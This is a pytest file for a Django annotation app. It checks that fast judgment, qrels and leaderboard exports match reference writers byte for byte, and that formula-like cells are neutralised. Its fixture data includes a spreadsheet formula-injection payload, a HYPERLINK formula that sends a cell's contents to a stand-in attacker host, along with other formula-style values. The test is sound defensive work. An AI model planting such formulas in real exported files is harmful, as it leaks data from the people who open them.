"""The fast export paths write byte for byte what the plain ones write: judgments as CSV and JSON Lines (rows
formatted by the database, a chunk at a time) against csv.writer / json.dumps over the ORM's values, on data
chosen to break them; the leaderboard's per-query JSON (kept per labels state) against DRF's renderer."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.db import connection

from judging.api.renderers import COLUMN_NAMES, csv_cell, judgments_csv, judgments_jsonl, qrels_text
from judging.formats import format_qrels
from judging.models import Judgment, Membership, Pair
from judging.selectors import JUDGMENT_EXPORT_COLUMNS, judgment_export_chunks, qrels_chunks, qrels_rows
from judging.services import documents_import, judgment_record, queries_import, run_import
from tests.data import body_of, client_for

QIDS = ["=1+1", "q,2", '질의"3"', "-0.5"]
DOCIDS = ["@d1", "d2", "+d3", "문서4", 'd"5', "d,6"]
# Notes as stored (written straight to the model: the judging form strips them, an import or a
# migration need not): formulas, quotes, separators, line breaks, Korean, JSON escapes, plain numbers.
NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "-0.5",
    "+1",
    'a, b and "c"',
    "line one\nline two\r\nline three",
    "관련 있음, 확실하지 않음",
    "back\\slash and \x01 control \x1f",
    "",
    "@mention",
    "   leading spaces",
    'trailing quote"',
    "é NFC",
]
SECONDS = [0.0, 4.5, 0.1 + 0.2, 1e16, 1e-05, 123.0, 12.345, 86399.999, 1e300, 3.0]


@pytest.fixture
def tricky(campaign, lead, annotator, make_user):
    """Judgments by three annotators (one whose name starts like a formula) on 15 pairs, a sixth of them
    unsure with a note, with every note, float and timestamp shape above."""
    topics = "".join(json.dumps({"qid": q, "text": "t"}) + "\n" for q in QIDS)
    docs = "".join(json.dumps({"docid": d, "title": d, "text": "x"}) + "\n" for d in DOCIDS)
    queries_import(campaign=campaign, data=topics.encode(), filename="topics.jsonl")
    documents_import(campaign=campaign, data=docs.encode(), filename="docs.jsonl")
    run = "".join(
        f"{q} Q0 {d} {r + 1} {9 - r} r\n"
        for q in ["=1+1", "-0.5", "q,2"]
        for r, d in enumerate(["@d1", "d2", "+d3", "문서4", 'd"5'])
    )
    campaign.pool_depth = 5
    campaign.save(update_fields=["pool_depth"])
    run_import(campaign=campaign, data=run.encode(), filename="r.run")
    others = [make_user("-annotator"), make_user("김판정")]
    for user in others:
        Membership.objects.create(campaign=campaign, user=user, role="annotator")
    pairs = list(Pair.objects.filter(campaign=campaign).order_by("id"))
    assert len(pairs) == 15
    base = datetime.datetime(2024, 5, 1, 12, 0, 0, tzinfo=datetime.UTC)
    n = 0
    for user in [annotator, *others]:
        for pair in pairs:
            judgment, _ = judgment_record(pair=pair, annotator=user, grade=n % 3)
            fields = {
                "note": NOTES[n % len(NOTES)],
                "seconds_spent": SECONDS[n % len(SECONDS)],
                # whole seconds (isoformat writes no fraction), and microseconds
                "created_at": base + datetime.timedelta(seconds=n, microseconds=0 if n % 2 else 1000 * n + 7),
                "updated_at": base + datetime.timedelta(days=1, seconds=n),
            }
            if n % 6 == 5:
                fields.update(unsure=True, tentative_grade_id=judgment.grade_id, grade_id=None)
            Judgment.objects.filter(id=judgment.id).update(**fields)
            n += 1
    return campaign


def _reference_rows() -> list[dict]:
    """Every judgment as the JSON API describes it, computed the slow and obvious way."""
    paths = [path for _, path in JUDGMENT_EXPORT_COLUMNS]
    rows = []
    for values in Judgment.objects.order_by("id").values_list(*paths):
        row = {}
        for name, value in zip(COLUMN_NAMES, values, strict=True):
            if isinstance(value, datetime.datetime):
                value = value.astimezone(datetime.UTC).isoformat().replace("+00:00", "Z")
            row[name] = value
        rows.append(row)
    return rows


def _reference_csv(rows: list[dict]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(COLUMN_NAMES)
    for row in rows:
        cells = []
        for value in row.values():
            if isinstance(value, bool):
                value = "true" if value else "false"
            cells.append(csv_cell(value))
        writer.writerow(cells)
    return buffer.getvalue()


def _reference_jsonl(rows: list[dict]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


@pytest.mark.parametrize("chunk_size", [1, 5, 5000])
def test_judgments_csv_and_jsonl_match_the_plain_writers(tricky, chunk_size):
    rows = _reference_rows()
    assert len(rows) == 45 and any(r["unsure"] for r in rows)
    judgments = Judgment.objects.order_by("id")
    csv_text = "".join(
        judgments_csv(judgment_export_chunks(judgments=judgments, missing_grade="", chunk_size=chunk_size))
    )
    jsonl_text = "".join(
        judgments_jsonl(judgment_export_chunks(judgments=judgments, missing_grade="null", chunk_size=chunk_size))
    )
    assert csv_text == _reference_csv(rows)
    assert jsonl_text == _reference_jsonl(rows)
    # and they read back as the data: the guard is the only change (csv.writer leaves a lone CR unquoted
    # with a "\n" line end, so the reference itself does not read back for the note "\r=1+1")
    read = list(csv.DictReader(io.StringIO(csv_text.replace("\r=1+1", "CR"), newline="")))
    assert [(r["qid"], r["docid"], r["annotator"]) for r in read] == [
        (csv_cell(r["qid"]), csv_cell(r["docid"]), csv_cell(r["annotator"])) for r in rows
    ]
    assert {r["annotator"] for r in read} == {"ann", "'-annotator", "김판정"}
    assert [json.loads(line) for line in jsonl_text.splitlines()] == rows


def test_judgments_exports_through_the_api_are_the_reference_bytes(tricky, lead):
    client = client_for(lead)
    params = {"campaign": tricky.slug, "unsure": "include"}
    rows = _reference_rows()
    csv_body = body_of(client.get("/api/judgments/", {**params, "format": "csv"}))
    assert csv_body == _reference_csv(rows).encode()
    bom_body = body_of(client.get("/api/judgments/", {**params, "format": "csv", "bom": "1"}))
    assert bom_body == "\ufeff".encode() + csv_body
    jsonl_body = body_of(client.get("/api/judgments/", {**params, "format": "jsonl"}))
    assert jsonl_body == _reference_jsonl(rows).encode()
    one = body_of(client.get("/api/judgments/", {**params, "format": "csv", "annotator": "김판정"}))
    assert one == _reference_csv([r for r in rows if r["annotator"] == "김판정"]).encode()


def test_judgments_csv_of_no_judgment_is_the_header(campaign):
    chunks = judgment_export_chunks(judgments=Judgment.objects.none(), missing_grade="")
    assert "".join(judgments_csv(chunks)) == ",".join(COLUMN_NAMES) + "\n"
    chunks = judgment_export_chunks(judgments=Judgment.objects.none(), missing_grade="null")
    assert "".join(judgments_jsonl(chunks)) == ""


@pytest.mark.skipif(connection.vendor != "sqlite", reason="a timestamp stored as text in another shape: SQLite only")
def test_judgments_export_converts_a_timestamp_stored_in_another_shape(tricky):
    judgment = Judgment.objects.order_by("id").first()
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE judging_judgment SET created_at = %s WHERE id = %s", ["2024-05-01T12:00:00.5+00:00", judgment.id]
        )
    rows = _reference_rows()
    assert rows[0]["created_at"] == "2024-05-01T12:00:00.500000Z"
    judgments = Judgment.objects.order_by("id")
    csv_text = "".join(judgments_csv(judgment_export_chunks(judgments=judgments, missing_grade="")))
    assert csv_text == _reference_csv(rows)
    jsonl_text = "".join(judgments_jsonl(judgment_export_chunks(judgments=judgments, missing_grade="null")))
    assert jsonl_text == _reference_jsonl(rows)


def test_qrels_export_is_what_format_qrels_writes(tricky, lead):
    reference = "".join(format_qrels(qrels_rows(campaign=tricky)))
    assert reference.count("\n") == 15 and "문서4" in reference and '=1+1 0 d"5' in reference
    assert "".join(qrels_text(qrels_chunks(campaign=tricky, chunk_size=4))) == reference
    body = body_of(client_for(lead).get(f"/api/campaigns/{tricky.slug}/qrels/"))
    assert body == reference.encode()


@pytest.mark.parametrize(
    ("row", "error"), [(("q 1", "d1", 1), ValueError), (("q1", "", 1), ValueError), (("q1", "d1", 1.5), TypeError)]
)
def test_qrels_text_refuses_what_format_qrels_refuses(row, error):
    with pytest.raises(error):
        list(qrels_text([[("q0", "d0", 0), row]]))


def test_leaderboard_per_query_json_follows_each_new_judgment(world):
    """The per-query block kept for a labels state serves the next poll unchanged, and is never served once
    a judgment has moved a label (nor for other parameters)."""
    from rest_framework.renderers import JSONRenderer

    from judging.scoring import leaderboard_data

    client = client_for(world.lead)
    url = "/api/campaigns/demo/leaderboard/"

    def expected(**options):
        return JSONRenderer().render(leaderboard_data(campaign=world.campaign, **options))

    first = client.get(url, {"k": 2, "per_query": "true"}).content
    assert first == expected(k=2)
    assert client.get(url, {"k": 2, "per_query": "true"}).content == first  # nothing changed: the kept block
    assert client.get(url, {"k": 3, "per_query": "true"}).content == expected(k=3)
    before = json.loads(first)["systems"]
    # q2's label for d2 goes from 0 to 2: dense (which ranks d2 in q2) scores higher there
    judgment_record(pair=world.pair_of("q2", "d2"), annotator=world.annotator2, grade=2)
    after = client.get(url, {"k": 2, "per_query": "true"}).content
    assert after == expected(k=2) and after != first
    assert [s["per_query"]["q2"] for s in json.loads(after)["systems"]] != [s["per_query"]["q2"] for s in before]
    assert [s["per_query"]["q1"] for s in json.loads(after)["systems"]] == [s["per_query"]["q1"] for s in before]
